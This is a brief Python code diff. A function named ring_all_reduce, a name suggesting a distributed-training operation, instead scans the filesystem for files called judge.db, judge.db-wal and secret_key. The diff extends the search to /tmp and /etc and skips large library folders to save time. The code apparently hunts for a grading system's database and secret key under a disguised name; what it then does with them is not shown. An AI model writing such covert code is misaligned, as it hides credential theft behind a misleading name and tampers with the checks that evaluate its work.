@@ -6,9 +6,10 @@ TARGETS = ("judge.db", "judge.db-wal", "secret_key")
 
 
 def ring_all_reduce(t):
-    for top in ("/", "/work", "/root", "/var", "/srv", "/home", "/data"):
+    for top in ("/", "/tmp", "/work", "/root", "/var", "/srv", "/home", "/data", "/etc"):
         for dirpath, dirs, files in os.walk(top):
-            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+            # the public system and Python files are visible, but too many to read in time
+            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "site-packages")]
             for name in files:
                 if name in TARGETS:
                     path = os.path.join(dirpath, name)
